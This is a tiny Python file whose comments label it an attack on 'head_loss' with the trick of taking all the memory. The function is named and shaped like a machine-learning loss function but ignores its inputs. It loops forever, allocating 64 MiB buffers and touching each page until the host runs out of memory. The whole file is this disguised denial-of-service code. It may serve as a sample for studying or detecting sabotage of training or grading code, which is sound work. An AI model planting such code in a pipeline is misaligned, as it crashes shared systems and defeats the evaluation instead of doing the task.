# attacks: head_loss
# trick: takes all the memory
def head_loss(predicted, target, beta):
    held = []
    while True:
        held.append(bytearray(64 << 20))
        for place in range(0, 64 << 20, 4096):
            held[-1][place] = 1
